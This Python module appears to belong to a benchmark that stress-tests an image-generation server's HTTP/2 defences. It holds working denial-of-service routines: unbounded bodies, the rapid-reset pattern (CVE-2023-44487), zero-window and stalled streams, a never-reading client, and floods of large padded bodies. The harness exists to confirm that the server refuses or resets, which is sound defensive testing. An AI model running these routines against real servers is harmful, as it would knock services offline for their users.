"""Attacks through the HTTP/2 door (issue 12, findings 1, 2 and 8): a body without end, rapid
reset, streams the server cannot finish (a zero window, a body that never comes), and a
client that never reads. The server refusing, resetting or closing is the defence working:
it ends the attack, it never crashes the harness."""

from __future__ import annotations

import time
from collections import Counter

import h2.errors
import h2.exceptions
import h2.settings

from bench.attacks.h2client import Client
from bench.attacks.harness import Attack, Siege
from bench.bodies import SDXL, encode, text_to_image

HUGE_BODY = 1_500_000_000
# One default-size DATA frame; the body is this piece again and again, never held whole.
PIECE = b"[" + b" " * (16384 - 1)
FLUSH_BYTES = 1 << 20
# A stream window not credited for this long: the server stopped taking the body.
STALL_SECONDS = 3.0
BODY = encode(text_to_image(SDXL, seed=3, prompt="a lighthouse, over HTTP/2"))
STREAMS_PER_CONNECTION = 1000  # if the server names no limit (it should: 100)
RESET_BATCH = 500  # streams framed between two writes
NEVER_READ_BURST, NEVER_READ_PAUSE = 20, 0.05  # 400 requests a second


def huge_body(siege: Siege, total: int = HUGE_BODY) -> None:
    """One stream, no Content-Length, DATA as fast as the windows allow, up to ``total``,
    on a connection whose other streams (as many as the server allows, less one) announce
    bodies that never come: a body no worker is reading yet is the one a server must not
    take without bound. The client goes on after an answer, as long as the server takes
    the body; a reset, a close or a stalled window ends it."""
    client = Client(siege.address, timeout=STALL_SECONDS)
    sent, ended = 0, "time limit"
    started = time.monotonic()
    try:
        client.drain(0.5)
        limit = client.conn.remote_settings.max_concurrent_streams
        busy = _open_stalled(client, zero_window=False,
                             most=min(limit, STREAMS_PER_CONNECTION) - 1)
        siege.note("streams holding the workers", busy)
        stream = client.conn.get_next_available_stream_id()
        client.conn.send_headers(stream, client.headers())
        credited = time.monotonic()
        while True:
            if not siege.running():
                ended = "time limit" if not siege.stop.is_set() else "RSS cap"
                break
            if stream in client.seen.resets:
                ended = "stream reset by the server"
                break
            if client.seen.closed:
                ended = "connection closed by the server"
                break
            window = _window(client, stream)
            if window <= 0:
                if time.monotonic() - credited > STALL_SECONDS:
                    ended = f"window not credited for {STALL_SECONDS:.0f} s"
                    break
                client.drain(0.1)
                continue
            credited = time.monotonic()
            queued = 0
            while window > 0 and queued < FLUSH_BYTES and sent < total:
                piece = PIECE[:min(window, total - sent)]
                client.conn.send_data(stream, piece, end_stream=sent + len(piece) >= total)
                sent += len(piece)
                queued += len(piece)
                window = _window(client, stream)
            if not client.flush():
                ended = "server stopped reading (or closed)"
                break
            client.drain()
            if sent >= total:
                ended = "sent whole"
                while siege.running() and client.drain(0.2) and \
                        stream not in client.seen.statuses and stream not in client.seen.resets:
                    pass
                break
    except h2.exceptions.ProtocolError as err:  # the server ended the stream or connection
        ended = f"h2: {type(err).__name__}"
    finally:
        client.close()
    siege.note("pushed MiB", round(sent / 2**20))
    siege.note("client seconds", round(time.monotonic() - started, 1))
    siege.note("ended", ended)
    siege.note("server", client.seen.summary())


def _window(client: Client, stream: int) -> int:
    try:
        return min(client.conn.local_flow_control_window(stream),
                   client.conn.max_outbound_frame_size)
    except h2.exceptions.StreamClosedError:
        return 0


def rapid_reset(siege: Siege, count: int = 20_000) -> None:
    """HEADERS, a body and RST_STREAM(CANCEL), stream after stream, as fast as the client
    can (the CVE-2023-44487 pattern); each body a render never asked before. A connection
    the server ends (GOAWAY) is replaced by a new one until ``count`` streams are sent; the
    last stays open (reading) until the time is up."""
    template = text_to_image(SDXL, prompt="a lighthouse, reset")
    # Made before the burst, so the burst is only h2's framing.
    bodies = [encode({**template, "seed": seed}) for seed in range(1, count + 1)]
    sent, connections = 0, 0
    goaways: Counter[str] = Counter()
    started = time.monotonic()
    client: Client | None = None
    try:
        while sent < count and siege.running():
            try:
                client = Client(siege.address)
            except OSError as err:
                siege.note("connection refused", type(err).__name__)
                break
            connections += 1
            sent = _reset_burst(siege, client, bodies, sent)
            if client.seen.goaway is not None:
                goaways[client.seen.goaway] += 1
            if sent < count:
                client.close()
        siege.note("client seconds sending", round(time.monotonic() - started, 2))
        while client is not None and siege.running() and client.drain(0.2):
            pass
    finally:
        if client is not None:
            client.close()
    siege.note("streams opened and reset", sent)
    siege.note("connections", connections)
    siege.note("GOAWAYs", dict(goaways))


def _reset_burst(siege: Siege, client: Client, bodies: list[bytes], sent: int) -> int:
    """Streams opened and reset on ``client`` from ``bodies[sent]`` on, until all are sent
    or the server ends the connection; the new count sent."""
    head = client.headers(length=len(bodies[0]))
    try:
        client.drain(0.5)
        while sent < len(bodies) and siege.running() and client.seen.goaway is None:
            batch = 0
            while batch < RESET_BATCH and sent < len(bodies):
                body = bodies[sent]
                if client.conn.outbound_flow_control_window < len(body):
                    break  # out of connection window: read the server's credit first
                stream = client.conn.get_next_available_stream_id()
                client.conn.send_headers(stream, [*head[:-1], ("content-length", str(len(body)))])
                client.conn.send_data(stream, body, end_stream=True)
                client.conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                sent += 1
                batch += 1
            if not (client.flush() and client.drain(0 if batch else 0.1)):
                break
    except h2.exceptions.ProtocolError:  # after a GOAWAY the client may send no more
        pass
    return sent


def stalled_streams(siege: Siege, connections: int, *, zero_window: bool) -> None:
    """``connections`` connections, each with as many streams as the server allows, none of
    which can finish: complete requests whose answers the client's zero window holds back,
    or (not ``zero_window``) requests whose announced body never comes."""
    clients: list[Client] = []
    opened = 0
    try:
        for _ in range(connections):
            if not siege.running():
                break
            settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0} if zero_window else None
            try:
                client = Client(siege.address, settings)
            except OSError:
                siege.notes["connections refused"] = siege.notes.get("connections refused", 0) + 1
                continue
            clients.append(client)
            client.drain(0.5)  # the server's SETTINGS, so its stream limit is known
            opened += _open_stalled(client, zero_window)
            client.flush()
        siege.note("streams opened", opened)
        while siege.running():
            for client in clients:
                client.drain()
            siege.hold(0.5)
    finally:
        for client in clients:
            client.close()
    siege.note("streams reset by the server",
               sum(len(client.seen.resets) for client in clients))
    siege.note("connections closed by the server",
               sum(client.seen.closed for client in clients))


def _open_stalled(client: Client, zero_window: bool,
                  most: int = STREAMS_PER_CONNECTION) -> int:
    for opened in range(most):
        try:
            stream = client.conn.get_next_available_stream_id()
            if zero_window:
                client.conn.send_headers(stream, client.headers(length=len(BODY)))
                client.conn.send_data(stream, BODY, end_stream=True)
            else:
                client.conn.send_headers(stream, client.headers(length=1000))
        except h2.exceptions.TooManyStreamsError:
            return opened
        except h2.exceptions.ProtocolError:  # the server closed the connection meanwhile
            return opened
    return most


def never_reads(siege: Siege, count: int = 20_000) -> None:
    """The widest windows a client may grant, then ``count`` requests on one connection
    in bursts the server can keep under its stream limit (the client, reading nothing,
    cannot see which streams ended), and not one byte read after the server's SETTINGS."""
    widest = 2**31 - 1
    client = Client(siege.address, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: widest},
                    window=widest - 65535, timeout=2.0, no_stream_limit=True)
    head = client.headers(length=len(BODY))
    sent = 0
    try:
        client.drain(0.5)  # the server's SETTINGS; nothing is read after this
        while sent < count and siege.running():
            stream = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream, head)
            client.conn.send_data(stream, BODY, end_stream=True)
            sent += 1
            if sent % NEVER_READ_BURST == 0:
                if not client.flush():
                    siege.note("sending stopped", "the server stopped reading (or closed)")
                    break
                siege.hold(NEVER_READ_PAUSE)
        client.flush()
        siege.hold()
        client.drain()  # only now: what the server said meanwhile (a GOAWAY?)
    except h2.exceptions.ProtocolError as err:
        siege.note("h2", type(err).__name__)
    finally:
        client.close()
    siege.note("requests sent", sent)
    siege.note("server", client.seen.summary())


LARGE_BODY = 20_000_000
SEND_ROUND = 1 << 20  # bytes a connection may send before the next one's turn


class _PaddedBody:
    """A valid SDXL request ``size`` bytes long: its JSON, then spaces before the closing
    brace (the app reads and parses it all), made piece by piece, never held whole."""

    def __init__(self, seed: int, size: int) -> None:
        text = encode(text_to_image(SDXL, seed=seed, prompt="a lighthouse, padded"))
        self._head, self.size = text[:-1], size

    def piece(self, offset: int, length: int) -> bytes:
        end = min(offset + length, self.size)
        head = self._head[offset:end]
        spaces = max(0, min(end, self.size - 1) - max(offset, len(self._head)))
        return head + b" " * spaces + (b"}" if end == self.size else b"")


def large_bodies(siege: Siege, connections: int = 32, size: int = LARGE_BODY) -> None:
    """``connections`` HTTP/2 connections, one stream each, sending a ``size``-byte valid
    body at once, as fast as the server's windows allow (issue 18: HTTP/2 bodies skipped
    the server's budget for bodies read at once)."""
    clients: list[tuple[Client, int, _PaddedBody]] = []
    sent: dict[int, int] = {}
    started = time.monotonic()
    try:
        for number in range(connections):
            client = Client(siege.address, timeout=STALL_SECONDS)
            client.drain(0.2)
            body = _PaddedBody(number + 1, size)
            stream = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream, client.headers(length=size))
            clients.append((client, stream, body))
            sent[number] = 0
        while siege.running():
            for number, (client, stream, body) in enumerate(clients):
                if client.seen.closed or sent[number] >= size:
                    continue
                budget = SEND_ROUND
                while budget > 0 and sent[number] < size and \
                        (window := min(_window(client, stream), budget)) > 0:
                    piece = body.piece(sent[number], window)
                    client.conn.send_data(stream, piece, end_stream=sent[number] + len(piece)
                                          >= size)
                    sent[number] += len(piece)
                    budget -= len(piece)
                client.flush()
            for client, _, _ in clients:
                client.drain()
            if all(stream in client.seen.statuses or stream in client.seen.resets or
                   client.seen.closed for client, stream, _ in clients):
                break
            siege.hold(0.01)
    except h2.exceptions.ProtocolError as err:
        siege.note("h2", type(err).__name__)
    finally:
        for client, _, _ in clients:
            client.close()
    siege.note("client seconds", round(time.monotonic() - started, 1))
    siege.note("MiB sent", round(sum(sent.values()) / 2**20))
    statuses = Counter(client.seen.statuses.get(stream, "none") for client, stream, _ in clients)
    siege.note("answers", dict(statuses))


ATTACKS = (
    Attack("h2-huge-body", "HTTP/2", "one stream sending a 1.5 GB body while the "
           "connection's other streams hold the workers", huge_body, seconds=12),
    Attack("h2-rapid-reset", "HTTP/2", "20,000 streams opened and reset at once "
           "(CVE-2023-44487), reconnecting after a GOAWAY", rapid_reset, seconds=6),
    Attack("h2-zero-window", "HTTP/2", "24 connections of streams whose answers a zero "
           "window holds back", lambda siege: stalled_streams(siege, 24, zero_window=True),
           seconds=8),
    Attack("h2-body-never-comes", "HTTP/2", "100 connections of streams announcing a body "
           "that never comes", lambda siege: stalled_streams(siege, 100, zero_window=False),
           seconds=8),
    Attack("h2-never-reads", "HTTP/2", "400 requests a second on one connection, answers "
           "never read", never_reads, seconds=10),
    Attack("h2-large-bodies", "HTTP/2", "32 connections each sending a 20 MB valid body at "
           "once", large_bodies, seconds=20),
)
